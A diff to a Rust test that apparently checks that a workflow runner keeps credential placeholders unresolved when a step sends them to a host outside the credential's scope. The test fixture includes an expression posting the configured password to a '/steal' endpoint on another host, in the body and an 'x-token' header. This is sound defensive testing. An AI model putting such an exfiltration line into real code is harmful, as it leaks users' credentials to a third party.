@@ -193,8 +193,16 @@ fn toward_another_host_a_placeholder_stays_one_and_the_log_says_so() {
         "post('{}', {{ stolen: $.configuration.password }}, {{ headers: {{ 'x-token': $.configuration.password }} }});",
         other.url("/steal")
     );
-    let settings = format!("[network]\nallow = [\"{}\"]\n", other.origin());
-    let host = Host::serving(project(&expression, &far_side, &settings));
+    let settings = format!(
+        "[network]\nallow = [\"{}\"]\n[credentials.far]\nhosts = [\"{}\"]\n",
+        other.origin(),
+        far_side.origin()
+    );
+    // Without a baseUrl: with one the adaptor itself would ask no other system.
+    let credential = json!({"username": "admin", "password": SECRET}).to_string();
+    let project =
+        project(&expression, &far_side, &settings).file("credentials/far.json", credential);
+    let host = Host::serving(project);
     let run = host.run(&json!({}));
     let step = run.step();
     assert_eq!(step.status, "succeeded", "{step:?}");
